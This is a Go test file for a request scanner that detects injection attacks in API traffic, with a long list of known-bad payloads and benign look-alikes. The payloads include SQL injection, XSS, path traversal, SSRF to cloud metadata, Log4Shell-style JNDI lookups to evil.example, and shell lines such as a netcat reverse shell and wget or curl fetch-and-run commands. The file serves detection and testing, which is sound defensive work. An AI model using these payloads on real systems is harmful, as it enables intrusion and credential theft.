package inject

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/apitap/apitap/internal/testutil"
)

// posCase is a payload as it arrives in a request part. rule, when set,
// is the rule that must report it; at, when set, is a substring of the
// decoded part whose first occurrence is where the evidence must start.
type posCase struct {
	class Class
	rule  string
	text  string
	at    string
}

var positives = []posCase{
	// --- SQL injection ------------------------------------------------
	{SQLi, "sqli.tautology", `' or 1=1--`, `'`},
	{SQLi, "sqli.tautology", `admin' OR '1'='1`, `'`},
	{SQLi, "sqli.tautology", `x' or 'a'='a`, `'`},
	{SQLi, "sqli.tautology", `1' or '1'='1'--`, ``},
	{SQLi, "sqli.tautology", `') or ('x'='x`, `or`},
	{SQLi, "sqli.tautology", `" or "1"="1`, `or`},
	{SQLi, "sqli.tautology", `1 OR 1=1`, `OR`},
	{SQLi, "sqli.tautology", `hi or a=a`, `or`},
	{SQLi, "sqli.tautology", `'/**/or/**/1/**/=/**/1`, ``},
	{SQLi, "sqli.tautology", `1' and 'pmrz' like 'pmrz`, ``},
	{SQLi, "sqli.tautology", `-2817) where 1212=1212 or 3266=1102`, `where`},
	{SQLi, "sqli.boolean", `1' and 1=2--`, `'`},
	{SQLi, "sqli.boolean", `1 AND 8148=8149`, `AND`},
	{SQLi, "sqli.boolean", `x' AND email IS NULL; --`, `'`},
	{SQLi, "sqli.boolean", `' or username like '%`, `'`},
	{SQLi, "sqli.boolean", `1' and 1=(select count(*) from tablenames); --`, ``},
	{SQLi, "sqli.boolean", `1%');iif(7011=2522,1,1/0)`, ``},
	{SQLi, "sqli.boolean", `(case when 2646=8520 then 2646 else null end)`, ``},
	{SQLi, "sqli.union_select", `1 union select 1,2,3`, `union`},
	{SQLi, "sqli.union_select", `-1 UNION ALL SELECT NULL,NULL,NULL--`, `UNION`},
	{SQLi, "sqli.union_select", `' UNION SELECT username, password FROM users--`, `'`},
	{SQLi, "sqli.union_select", `0 union(select @@version)`, `union`},
	{SQLi, "sqli.union_select", `1 /*!50000UNION*/ /*!50000SELECT*/ 1,2`, ``},
	{SQLi, "sqli.union_select", `UN/**/ION SEL/**/ECT password FROM users`, ``},
	{SQLi, "sqli.comment_split", `1 uni/**/on sel/**/ect`, `union`},
	{SQLi, "sqli.stacked", `1; DROP TABLE users`, `;`},
	{SQLi, "sqli.stacked", `1'; exec sp_configure 'show advanced options',1--`, `;`},
	{SQLi, "sqli.mssql_proc", `'; exec master..xp_cmdshell 'ping 10.10.1.2'--`, `xp_`},
	{SQLi, "sqli.stacked", `1;declare @q nvarchar(200) select @q=0x77`, `;`},
	{SQLi, "sqli.stacked", `'; shutdown--`, `;`},
	{SQLi, "sqli.stacked", `'; insert into users values('x','y')--`, `;`},
	{SQLi, "sqli.stacked", `1;update users set admin=1 where id=2`, `;`},
	{SQLi, "sqli.time_delay", `1 and sleep(5)`, `sleep`},
	{SQLi, "sqli.time_delay", `1' AND BENCHMARK(5000000,MD5(1))#`, ``},
	{SQLi, "sqli.time_delay", `1) or pg_sleep(5)--`, `pg_sleep`},
	{SQLi, "sqli.time_delay", `'; WAITFOR DELAY '0:0:5'--`, ``},
	{SQLi, "sqli.time_delay", `1 waitfor delay '0:0:10'--`, `waitfor`},
	{SQLi, "sqli.time_delay", `(select(0)from(select(sleep(7)))v)`, ``},
	{SQLi, "sqli.time_delay", `1;begin dbms_lock.sleep(5); end`, ``},
	{SQLi, "sqli.comment", `admin'--`, `'`},
	{SQLi, "sqli.comment", `admin' #`, `'`},
	{SQLi, "sqli.comment", `admin')-- -`, `'`},
	{SQLi, "sqli.comment", `admin'/*`, `'`},
	{SQLi, "sqli.order_by", `1' ORDER BY 3--+`, `'`},
	{SQLi, "sqli.order_by", `1 order by 10#`, `order`},
	{SQLi, "sqli.tautology", `' group by userid having 1=1--`, `having`},
	{SQLi, "sqli.order_by", `' group by userid having count(*)>1`, `'`},
	{SQLi, "sqli.schema", `1 and exists(select * from information_schema.tables)`, ``},
	{SQLi, "sqli.function", `1 and extractvalue(1,concat(0x7e,version()))`, ``},
	{SQLi, "sqli.function", `'||utl_inaddr.get_host_address((select user from dual))||'`, ``},
	{SQLi, "sqli.function", `1;(load_file(char(47,101,116,99,47,112,97,115,115,119,100))),1,1,1;`, ``},
	{SQLi, "sqli.mssql_proc", `1 exec xp_cmdshell 'dir'`, `xp_`},
	{SQLi, "sqli.system_variable", `' and @@version like '5%`, `@@`},
	{SQLi, "sqli.time_delay", `',(select if(count(*)!=-1,benchmark(3000000,MD5(1)),0))/*`, `benchmark`},
	{SQLi, "sqli.subquery", `1 and 1 in (select name from master..sysdatabases)`, `(select`},
	{SQLi, "sqli.concat", `'||'6`, `'`},
	{SQLi, "sqli.boolean", `vaciar carrito'or'a='a`, `'`},
	{SQLi, "sqli.stacked", `credenciales incorrectas' delete from users`, `'`},
	{SQLi, "sqli.outfile", `' into outfile '/var/www/shell.php'--`, `'`},
	{SQLi, "", `id=1%27%20UNION%20SELECT%20NULL%2C%20version%28%29%20%23`, ``},
	{SQLi, "", `id=1%2527%2520or%25201%253D1--`, ``},
	{SQLi, "", `{"user":"admin' or '1'='1","pass":"x"}`, ``},
	{SQLi, "", `{"q":"x\" or \"a\"=\"a"}`, ``},
	{SQLi, "", `1&#39; or &#39;1&#39;=&#39;1`, ``},

	// --- XSS ------------------------------------------------------------
	{XSS, "xss.script_tag", `<script>alert(1)</script>`, `<script`},
	{XSS, "xss.script_tag", `"><ScRiPt src=//evil.example/x.js></ScRiPt>`, `<ScRiPt`},
	{XSS, "xss.script_tag", `%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E`, `<script`},
	{XSS, "xss.script_tag", `&lt;script&gt;alert(1)&lt;/script&gt;`, `<script`},
	{XSS, "xss.script_tag", `{"bio":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, `<script`},
	{XSS, "xss.script_tag", `%253Cscript%253Ealert(1)%253C/script%253E`, `<script`},
	{XSS, "xss.script_tag", `%uFF1Cscript%uFF1Ealert(1)`, `<script`},
	{XSS, "xss.event_handler", `<img src=x onerror=alert(1)>`, `<img`},
	{XSS, "xss.event_handler", `<svg/onload=alert(1)>`, `<svg`},
	{XSS, "xss.event_handler", `<body onload=alert('XSS')>`, `<body`},
	{XSS, "xss.event_handler", `<details open ontoggle=confirm(1)>`, `<details`},
	{XSS, "xss.event_handler", `" onmouseover="alert(1)`, `"`},
	{XSS, "xss.event_handler", `' autofocus onfocus='alert(1)`, `'`},
	{XSS, "xss.event_handler", `x" onfocus=alert(document.domain) autofocus x="`, `"`},
	{XSS, "xss.js_uri", `javascript:alert(document.cookie)`, `javascript`},
	{XSS, "xss.js_uri", `<a href="JaVaScRiPt:alert(1)">x</a>`, `JaVaScRiPt`},
	{XSS, "xss.js_uri", `<iframe src="jav&#x09;ascript:alert(1)">`, `jav`},
	{XSS, "xss.js_uri", `redirect=javascript%3Aalert%281%29`, `javascript`},
	{XSS, "xss.data_uri", `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, `data:`},
	{XSS, "xss.js_call", `';alert(String.fromCharCode(88,83,83))//`, `alert`},
	{XSS, "xss.js_call", `"-alert(1)-"`, `alert`},
	{XSS, "xss.js_call", `</title>alert` + "`1`", `alert`},
	{XSS, "xss.css_expression", `<div style="width: expression(alert(1))">`, `expression`},
	{XSS, "xss.dangerous_tag", `<XSS STYLE="behavior: url(xss.htc);">`, `<XSS`},
	{XSS, "xss.dom_access", `'-document.cookie-'`, `document`},

	// --- Path traversal ------------------------------------------------
	{PathTraversal, "traversal.sensitive_file", `../../../../etc/passwd`, `../`},
	{PathTraversal, "traversal.sensitive_file", `..\..\..\windows\win.ini`, `..\`},
	{PathTraversal, "traversal.sensitive_file", `..%2f..%2f..%2fetc%2fshadow`, `../`},
	{PathTraversal, "traversal.sensitive_file", `%252e%252e%252f%252e%252e%252fboot.ini`, `../`},
	{PathTraversal, "traversal.sensitive_file", `/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd`, `../`},
	{PathTraversal, "traversal.sensitive_file", `..%u2215..%u2215etc%u2215passwd`, `../`},
	{PathTraversal, "traversal.sensitive_file", `file=/etc/passwd`, `/etc`},
	{PathTraversal, "traversal.sensitive_file", `C:\boot.ini`, `\boot`},
	{PathTraversal, "traversal.sensitive_file", `/proc/self/environ`, `/proc`},
	{PathTraversal, "traversal.sensitive_file", `page=....//....//....//etc/hosts`, `....`},
	{PathTraversal, "traversal.sensitive_file", `/static/..;/..;/..;/WEB-INF/classes/`, `..;`},
	{PathTraversal, "traversal.dotdot", `/static/..;/..;/..;/app/classes/`, `..;`},
	{PathTraversal, "traversal.dotdot", `path=../../../../var/lib/app/db.sqlite`, `../`},
	{PathTraversal, "traversal.dotdot", `{"template":"../../../../../../tmp/x"}`, `../`},
	{PathTraversal, "traversal.null_byte", `download.php?file=report.pdf%00.jpg`, "\x00"},
	{PathTraversal, "traversal.null_byte", `file=x.conf%00`, "\x00"},
	{PathTraversal, "traversal.php_wrapper", `page=php://filter/convert.base64-encode/resource=index.php`, `php`},

	// --- Command injection ----------------------------------------------
	{CommandInjection, "cmd.separator", `; cat /etc/passwd`, `;`},
	{CommandInjection, "cmd.separator", `127.0.0.1; id`, `;`},
	{CommandInjection, "cmd.separator", `127.0.0.1 && whoami`, `&&`},
	{CommandInjection, "cmd.separator", `x | nc -e /bin/sh 10.0.0.1 4444`, `|`},
	{CommandInjection, "cmd.separator", `127.0.0.1%0aid`, "\n"},
	{CommandInjection, "cmd.separator", `|| ping -c 10 127.0.0.1`, `||`},
	{CommandInjection, "cmd.separator", `a;/usr/bin/id`, `;`},
	{CommandInjection, "cmd.separator", `& powershell -enc SQBFAFgA`, `&`},
	{CommandInjection, "cmd.separator", `file.txt; wget http://evil.example/x.sh`, `;`},
	{CommandInjection, "cmd.separator", `8.8.8.8|uname -a`, `|`},
	{CommandInjection, "cmd.separator", `| dir c:\`, `|`},
	{CommandInjection, "cmd.separator", `; sleep 10;`, `;`},
	{CommandInjection, "cmd.substitution", "`id`", "`"},
	{CommandInjection, "cmd.substitution", `$(whoami)`, `$(`},
	{CommandInjection, "cmd.substitution", `host=$(curl http://x.example/a|sh)`, `$(`},
	{CommandInjection, "cmd.ifs", `cat${IFS}/etc/passwd`, `${IFS}`},
	{CommandInjection, "cmd.ssi_exec", `<!--#exec cmd="/bin/cat /etc/passwd"-->`, `<!--`},
	{CommandInjection, "cmd.code_exec", `;system('id');`, `system`},
	{CommandInjection, "cmd.code_exec", `__import__('os').popen('whoami')`, `popen`},
	{CommandInjection, "cmd.php_code", `<?php system($_GET['c']); ?>`, `<?php`},
	{CommandInjection, "cmd.expect_wrapper", `page=expect://id`, `expect`},

	// --- SSRF -----------------------------------------------------------
	{SSRF, "ssrf.metadata", `http://169.254.169.254/latest/meta-data/iam/security-credentials/`, `http`},
	{SSRF, "ssrf.metadata", `url=http://metadata.google.internal/computeMetadata/v1/`, `http`},
	{SSRF, "ssrf.metadata", `{"webhook":"http://100.100.100.200/latest/meta-data/"}`, `http`},
	{SSRF, "ssrf.metadata", `http://[fd00:ec2::254]/latest/`, `http`},
	{SSRF, "ssrf.metadata", `url=http%3A%2F%2F169.254.169.254%2F`, `http`},
	{SSRF, "ssrf.loopback", `url=http://127.0.0.1:8080/admin`, `http`},
	{SSRF, "ssrf.loopback", `http://localhost/server-status`, `http`},
	{SSRF, "ssrf.loopback", `http://2130706433/`, `http`},
	{SSRF, "ssrf.loopback", `http://0x7f.0.0.1/`, `http`},
	{SSRF, "ssrf.loopback", `http://0177.0.0.1/`, `http`},
	{SSRF, "ssrf.loopback", `http://127.1/`, `http`},
	{SSRF, "ssrf.loopback", `http://[::1]:80/`, `http`},
	{SSRF, "ssrf.loopback", `http://[::ffff:127.0.0.1]/`, `http`},
	{SSRF, "ssrf.loopback", `http://0.0.0.0:6379/`, `http`},
	{SSRF, "ssrf.loopback", `https://user:pass@localhost.localdomain/`, `https`},
	{SSRF, "ssrf.loopback", `http://app.localtest.me/`, `http`},
	{SSRF, "ssrf.private", `image_url=http://10.0.0.5/internal`, `http`},
	{SSRF, "ssrf.private", `{"callback":"https://192.168.1.1/cgi-bin/"}`, `https`},
	{SSRF, "ssrf.private", `http://172.16.0.10:9200/_cat/indices`, `http`},
	{SSRF, "ssrf.private", `http://10.0.0.1.nip.io/`, `http`},
	{SSRF, "ssrf.private", `http://[fe80::1]/`, `http`},
	{SSRF, "ssrf.scheme", `url=gopher://127.0.0.1:6379/_FLUSHALL`, `gopher`},
	{SSRF, "ssrf.scheme", `url=dict://localhost:11211/stat`, `dict`},
	{SSRF, "ssrf.scheme", `feed=file:///etc/passwd`, `file`},

	// --- Template injection ---------------------------------------------
	{TemplateInjection, "ssti.arithmetic", `{{7*7}}`, `{{`},
	{TemplateInjection, "ssti.arithmetic", `${7*7}`, `${`},
	{TemplateInjection, "ssti.arithmetic", `<%= 7*7 %>`, `<%`},
	{TemplateInjection, "ssti.arithmetic", `#{7*7}`, `#{`},
	{TemplateInjection, "ssti.arithmetic", `{{7*'7'}}`, `{{`},
	{TemplateInjection, "ssti.arithmetic", `*{7*7}`, `*{`},
	{TemplateInjection, "ssti.arithmetic", `@(7*7)`, `@(`},
	{TemplateInjection, "ssti.arithmetic", `%24%7B7*7%7D`, `${`},
	{TemplateInjection, "ssti.object", `{{config}}`, `{{`},
	{TemplateInjection, "ssti.object", `{{ config.items() }}`, `{{`},
	{TemplateInjection, "ssti.object", `{{''.__class__.__mro__[1].__subclasses__()}}`, `{{`},
	{TemplateInjection, "ssti.object", `{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}`, `{{`},
	{TemplateInjection, "ssti.object", `{{constructor.constructor('alert(1)')()}}`, `{{`},
	{TemplateInjection, "ssti.object", `{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}`, `{%`},
	{TemplateInjection, "ssti.expression", `${T(java.lang.Runtime).getRuntime().exec('id')}`, `${`},
	{TemplateInjection, "ssti.expression", `${"freemarker.template.utility.Execute"?new()("id")}`, `${`},
	{TemplateInjection, "ssti.expression", "#{`ls`}", `#{`},
	{TemplateInjection, "ssti.ognl", `%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}`, `%{`},
	{TemplateInjection, "ssti.freemarker", `<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`, `<#`},
	{TemplateInjection, "ssti.python_dunder", `''.__class__.__mro__`, `'.__`},
	{TemplateInjection, "ssti.ssi", `<!--#include virtual="/etc/passwd"-->`, `<!--`},

	// --- JNDI -----------------------------------------------------------
	{JNDI, "jndi.lookup", `${jndi:ldap://evil.example:1389/a}`, `${`},
	{JNDI, "jndi.lookup", `Mozilla/5.0 ${jndi:rmi://x.example/o}`, `${`},
	{JNDI, "jndi.lookup", `${JnDi:dns://x.example}`, `${`},
	{JNDI, "jndi.lookup", `%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D`, `${`},
	{JNDI, "jndi.obfuscated", `${${lower:j}ndi:ldap://evil.example/a}`, `${`},
	{JNDI, "jndi.obfuscated", `${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}`, `${`},
	{JNDI, "jndi.obfuscated", `${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}`, `${`},
	{JNDI, "jndi.obfuscated", `${j${k8s:k5:-ND}i:ldap://x.example/a}`, `${`},
	{JNDI, "jndi.obfuscated", `${${upper:j}${upper:n}${lower:d}i:ldap://x}`, `${`},
	{JNDI, "jndi.obfuscated", `${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}`, `${`},
	{JNDI, "jndi.marker", `jndi:ldap://172.16.238.11:1389/a`, `jndi`},

	// --- NoSQL injection -------------------------------------------------
	{NoSQLi, "nosqli.operator", `{"username":"admin","password":{"$ne":null}}`, `$ne`},
	{NoSQLi, "nosqli.operator", `username[$ne]=x&password[$ne]=x`, `$ne`},
	{NoSQLi, "nosqli.operator", `password[$regex]=.*`, `$regex`},
	{NoSQLi, "nosqli.operator", `{"email":{"$gt":""}}`, `$gt`},
	{NoSQLi, "nosqli.where", `{"$where":"sleep(5000) || true"}`, `$where`},
	{NoSQLi, "nosqli.where", `', $where: '1 == 1'`, `$where`},
	{NoSQLi, "nosqli.js_tautology", `' || '1'=='1`, `||`},
	{NoSQLi, "nosqli.js_injection", `' && this.password.match(/.*/)//`, `this`},
	{NoSQLi, "nosqli.js_injection", `'; return true; var x='`, `'`},
}

// negatives are benign parts that must match nothing: the hard cases of
// API traffic — apostrophes in names, SQL and shell words in prose and
// search queries, markup in content fields, URLs to public hosts, file
// paths, templates for display, code in documentation.
var negatives = []string{
	// Names, prose, search.
	`O'Brien`, `{"name":"Seán O'Brien","city":"Dún Laoghaire"}`, `don't stop believing`, `it's 5 o'clock`,
	`q=select+a+plan`, `q=union+station+to+penn+station`, `q=how+to+drop+table+tennis+balls`,
	`Please select one option from the list below.`, `The European Union select committee met on Monday.`,
	`We sleep (8h) and wake at 6`, `Order by phone: 555-0100 -- call today`, `rock 'n' roll and 'blues' or jazz`,
	`Tom & Jerry; cat food, dog food`, `dogs; cat food`, `"Name; ID; Email"`, `fields=email|id|name`,
	`sort=-created_at&order=desc&limit=50`, `{"filter":"status = 'open' and priority > 2"}`,
	`Use "quotes" or 'apostrophes' as you like`, `1 = 1 is always true, said the teacher`,
	`The 'best' or the worst?`, `Côte d'Or`, `Pick 'one' select from below`, `'x' select one from the list`,
	`carrer verge de l'alba, s/n`, `o'donnell 9`, `I'd say 'yes' -- but later`, `Note: select @ 5pm`,
	`2024-05-20T10:31:00Z -- 2024-05-21`, `id=42&id=43&ids=1,2,3`, `a=1; id=2; session=xyz`,
	`page=2&per_page=50&q=O%27Reilly+Media`, `{"email":"o'neil@example.com"}`,
	`{"comment":"I'm sure it's fine; we'll see."}`,
	`{"or":[{"status":"open"},{"status":"pending"}]}`, `{"and":[{"a":1},{"b":2}]}`,
	`{"where":{"score":{"$gte":1000}}}`, `filters[price][$gt]=100&filters[title][$containsi]=phone`,
	`{"status":{"$ne":"draft"}}`,
	// Markup and markdown in content fields.
	`<p>Hello <b>world</b>, see <a href="https://example.com/docs">the docs</a>.</p>`,
	`<img src="/static/img/logo.png" alt="Logo" width="120">`,
	`<a href="javascript:void(0)" class="btn">Menu</a>`,
	`<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>`,
	`## Install\n\nRun ` + "`npm install`" + ` then ` + "`npm test`" + `.`,
	"```bash\ncurl -u user:token https://api.example.com/repos | jq .\nls -la /tmp\n```",
	`![diagram](../../assets/diagram.png) and [guide](../README.md)`,
	`<p>Price: 5 &lt; 7 &amp;&amp; 7 &gt; 5</p>`, `JavaScript: The Good Parts`, `<3 love it`,
	`{"html":"<div class=\"card\"><h2>Title</h2><p>Body text</p></div>"}`,
	`{"avatar":"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="}`,
	// URLs and paths.
	`redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&state=xyz`,
	`{"callback":"https://hooks.example.com/v1/abc","image":"https://cdn.example.com/a.png"}`,
	`see http://localhost:3000 for the dev server`, `url=https://api.github.com/repos/x/y`,
	`{"uri":"file:///github/workspace/src/main.go","line":12}`,
	`/api/v2/files/reports/2024/summary.pdf`, `path=/home/user/documents/report.txt`,
	`C:\Users\me\Documents\file.txt`, `../images/logo.png`, `{"src":"../img/a.png"}`,
	`/etc/nginx/conf.d/default.conf`, `version=1.2.3&build=..final`,
	`http://example.com/a/b/../c`, `https://192.0.2.10/public`, `http://8.8.8.8/`,
	// Templates for display, code.
	`Hello {{first_name}}, your order {{order.id}} ships {{ship_date | date}}.`,
	`Total: ${total} for ${user.name}`, `{% if user %}Hi {{ user.name }}{% endif %}`,
	"const msg = `Hello ${name}`;", `#{user.name}`, `<%= user.name %>`,
	`{"template":"Dear {{name}},\n\nThanks for your order."}`,
	`def f(self):\n    return self.__class__.__name__`,
	`${HOME}/.config`, `Price: $10 (incl. tax)`, `email: a@@b`,
	// Misc API values.
	`eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig`, `Bearer abc.def.ghi`,
	`Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36`,
	`text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8`, `gzip, deflate, br`,
	`en-US,en;q=0.9`, `max-age=0`, `"33a64df551425fcc55e4d42a148795d9f25f89d4"`,
	`{"amount":-19.99,"rate":1e-3,"ids":[1,2,3]}`, `100%`, `50% off -- today only`,
	`name=caf%C3%A9&city=S%C3%A3o+Paulo`, `q=%E4%BD%A0%E5%A5%BD`,
}

func TestPositives(t *testing.T) {
	var s Scanner
	for _, c := range positives {
		ms := s.Scan(nil, []byte(c.text))
		var got *Match
		for k := range ms {
			if ms[k].Class == c.class {
				got = &ms[k]
			}
		}
		if got == nil {
			t.Errorf("%s %q: not found (got %v)", c.class, c.text, ms)
			continue
		}
		if c.rule != "" && got.Rule != c.rule {
			t.Errorf("%s %q: rule %s, want %s", c.class, c.text, got.Rule, c.rule)
		}
		d := s.Decoded()
		if got.Offset < 0 || got.Offset >= len(d) {
			t.Errorf("%q: offset %d outside %d bytes", c.text, got.Offset, len(d))
			continue
		}
		if c.at != "" {
			if want := bytes.Index(bytes.ToLower(d), []byte(strings.ToLower(c.at))); want != got.Offset {
				t.Errorf("%q: offset %d (%q), want %d (%q)", c.text, got.Offset, d[got.Offset:], want, c.at)
			}
		}
	}
}

func TestNegatives(t *testing.T) {
	var s Scanner
	for _, n := range negatives {
		n = strings.ReplaceAll(n, `\n`, "\n")
		if ms := s.Scan(nil, []byte(n)); len(ms) > 0 {
			d := s.Decoded()
			t.Errorf("false positive in %q: %v at %q", n, ms, d[ms[0].Offset:min(len(d), ms[0].Offset+40)])
		}
	}
}

// TestEveryRuleTested: each rule id the package can report appears in
// positives, so a rule that stops working fails a test by name.
func TestEveryRuleTested(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range positives {
		seen[c.rule] = true
	}
	for _, r := range Rules() {
		if !seen[r.ID] {
			t.Errorf("rule %s has no positive case", r.ID)
		}
	}
	for id := range seen {
		if id != "" && RuleClass(id) == 0 {
			t.Errorf("positive case for unknown rule %s", id)
		}
	}
}

func TestClassString(t *testing.T) {
	want := []string{"", "sqli", "xss", "path_traversal", "cmd_injection", "ssrf", "template_injection", "jndi", "nosqli"}
	for c := SQLi; c < numClasses; c++ {
		if c.String() != want[c] {
			t.Errorf("%d: %q, want %q", c, c.String(), want[c])
		}
	}
	if Class(0).String() != "inject.Class(0)" || Class(99).String() != "inject.Class(99)" {
		t.Error("invalid classes")
	}
	cs := Classes(SQLi, SSRF)
	if !cs.Has(SQLi) || !cs.Has(SSRF) || cs.Has(XSS) || Classes(0, 99) != 0 {
		t.Errorf("ClassSet %b", cs)
	}
}

// TestScanClasses: classes left out are not reported, and the others
// still are.
func TestScanClasses(t *testing.T) {
	var s Scanner
	p := []byte(`url=http://127.0.0.1/x&q=' or 1=1--`)
	all := s.Scan(nil, p)
	if len(all) != 2 || all[0].Class != SQLi || all[1].Class != SSRF {
		t.Fatalf("Scan = %v", all)
	}
	got := s.ScanClasses(nil, p, AllClasses&^Classes(SSRF))
	if len(got) != 1 || got[0].Class != SQLi {
		t.Errorf("without SSRF: %v", got)
	}
	if got := s.ScanClasses(nil, p, 0); len(got) != 0 {
		t.Errorf("no classes: %v", got)
	}
}

// TestMatchOrder: one match per class, in class order, appended to dst.
func TestMatchOrder(t *testing.T) {
	var s Scanner
	p := []byte(`{"a":"${jndi:ldap://x/a}","b":"<script>alert(1)</script>","c":"1 union select 1,2","d":"' or 'a'='a","e":"../../../etc/passwd"}`)
	dst := []Match{{Class: 42}}
	ms := s.Scan(dst, p)
	if len(ms) != 5 || ms[0].Class != 42 {
		t.Fatalf("%v", ms)
	}
	for k, c := range []Class{SQLi, XSS, PathTraversal, JNDI} {
		if ms[k+1].Class != c {
			t.Errorf("match %d: %v, want %s", k+1, ms[k+1], c)
		}
	}
	if ms[1].Rule != "sqli.union_select" {
		t.Errorf("first SQLi evidence: %v", ms[1])
	}
}

// TestDecode checks the decoder on its own.
func TestDecode(t *testing.T) {
	cases := []struct{ in, want string }{
		{"%3Cscript%3E", "<script>"},
		{"%253C%2527", "<'"},
		{"%25253C", "<"},
		{"%%32%65%%32%65%%32%66", "../"},
		{"a+b%20c", "a+b c"},
		{"%u003c%U0027", "<'"},
		{"&lt;&gt;&amp;&quot;&apos;&#39;&#x27;&#0000060&#60&LT", `<>&"'''<<<`},
		{"&amp;lt;", "<"},
		{"&colon;&lpar;&rpar;&Tab;&NewLine;", ":()\t\n"},
		{"a&b=c&amp=1", "a&b=c&amp=1"},
		{`\u003c\x3c\u{3c}`, "<<<"},
		{"\xc0\xae\xc0\xaf\xc1\x9c", "./\\"},
		{"%c0%ae%c0%ae%c0%af", "../"},
		{"\uff0e\uff0e\uff0f\u2215\u2216", "..//\\"},
		{"UN/**/ION SEL/**/ECT", "UNION SELECT"},
		{"S/**/EL/**/ECT", "SELECT"},
		{"union/**/select/**/password", "union select password"},
		{"/*!50000UNION*/ /*!SELECT*/", " UNION   SELECT "},
		{"%00", "\x00"},
		{"caf%C3%A9", "café"},
		{"100%", "100%"},
		{"%zz%4", "%zz%4"},
	}
	var s Scanner
	for _, c := range cases {
		s.split = -1
		got := string(s.decode([]byte(c.in)))
		if got != c.want {
			t.Errorf("decode(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestJoinKeywordsIndex: firstScriptKeyword splits the SQL keywords from
// the others.
func TestJoinKeywordsIndex(t *testing.T) {
	if joinKeywords[firstScriptKeyword] != "script" || joinKeywords[firstScriptKeyword-1] != "convert" {
		t.Errorf("firstScriptKeyword %d is %q", firstScriptKeyword, joinKeywords[firstScriptKeyword])
	}
}

// TestMaxScan: bytes after MaxScan are not examined.
func TestMaxScan(t *testing.T) {
	var s Scanner
	p := append(bytes.Repeat([]byte("a"), MaxScan), "<script>alert(1)</script>"...)
	if ms := s.Scan(nil, p); len(ms) != 0 {
		t.Errorf("beyond MaxScan: %v", ms)
	}
	p = append(bytes.Repeat([]byte("a"), MaxScan-30), "<script>alert(1)</script>"...)
	if ms := s.Scan(nil, p); len(ms) != 1 {
		t.Errorf("within MaxScan: %v", ms)
	}
}

// TestReuse: a Scanner gives the same answers in any order of parts
// (no state leaks between Scans: decode buffers, JNDI scratch).
func TestReuse(t *testing.T) {
	var a, b Scanner
	all := make([]string, 0, len(positives)+len(negatives))
	for _, c := range positives {
		all = append(all, c.text)
	}
	all = append(all, negatives...)
	want := make([][]Match, len(all))
	for k, p := range all {
		want[k] = a.Scan(nil, []byte(p))
	}
	for k := len(all) - 1; k >= 0; k-- {
		got := b.Scan(nil, []byte(all[k]))
		if !equalMatches(got, want[k]) {
			t.Errorf("%q: %v then %v", all[k], want[k], got)
		}
	}
}

func equalMatches(a, b []Match) bool {
	if len(a) != len(b) {
		return false
	}
	for k := range a {
		if a[k] != b[k] {
			return false
		}
	}
	return true
}

// TestZeroAllocs: a warm Scanner allocates nothing, on benign parts,
// attacks, encoded parts and 64 KiB bodies.
func TestZeroAllocs(t *testing.T) {
	var s Scanner
	parts := [][]byte{benchJSON(1, 4<<10), benchJSON(2, MaxScan)}
	for _, p := range benchParts {
		parts = append(parts, p)
	}
	for _, c := range positives {
		parts = append(parts, []byte(c.text))
	}
	big := bytes.Repeat([]byte("%3Cscript%3E"), MaxScan/12)
	parts = append(parts, big)
	dst := make([]Match, 0, numClasses)
	for _, p := range parts {
		s.Scan(dst[:0], p) // warm up: the decode buffers grow
	}
	testutil.AssertAllocs(t, 0, func() {
		for _, p := range parts {
			dst = s.Scan(dst[:0], p)
		}
	})
}

// adversarial parts: near misses repeated over MaxScan, each of which
// makes a rule look further than a real part does.
func adversarial() map[string][]byte {
	rep := func(s string) []byte {
		return bytes.Repeat([]byte(s), MaxScan/len(s)+1)[:MaxScan]
	}
	return map[string][]byte{
		"quotes":      rep(`' `),
		"quote_or":    rep(`' or (x `),
		"or_eq":       rep(`or x=`),
		"tags":        rep(`<a `),
		"tag_attrs":   rep(`<a b c d e f g h i j k l m n o p `),
		"dollar":      rep(`${`),
		"nested":      rep(`${${${${${${`),
		"braces":      rep(`{{`),
		"dots":        rep(`../`),
		"dotdot":      rep(`..x`),
		"parens":      rep(`sleep(`),
		"select":      rep(`(select `),
		"semis":       rep(`; cat `),
		"pipes":       rep(`|`),
		"urls":        rep(`=http://`),
		"comments":    rep(`/*`),
		"percent":     rep(`%25`),
		"entities":    rep(`&#x`),
		"backticks":   rep("`"),
		"union":       rep(`union `),
		"onerror":     rep(` onerror=`),
		"lt_percent":  rep(`<%`),
		"like":        rep(`' like '`),
		"fence":       rep("; ls -la\n"),
		"nul":         rep("\x00."),
		"high":        rep("\xc0\xae"),
		"json_quotes": rep(`"a":"b",`),
	}
}

// TestWorkBound: adversarial parts cost bounded time. The budget
// (maxWorkBase + maxWorkPerByte × len) caps the rules' extra work, so
// even the worst part stays within a small multiple of a benign body
// (measured: 15× a 64 KiB JSON body at worst, "${${${…").
func TestWorkBound(t *testing.T) {
	var s Scanner
	best := func(p []byte) time.Duration {
		d := time.Hour
		for range 5 {
			start := time.Now()
			s.Scan(nil, p)
			d = min(d, time.Since(start))
		}
		return d
	}
	benign := best(benchJSON(9, MaxScan))
	for name, p := range adversarial() {
		s.Scan(nil, p)
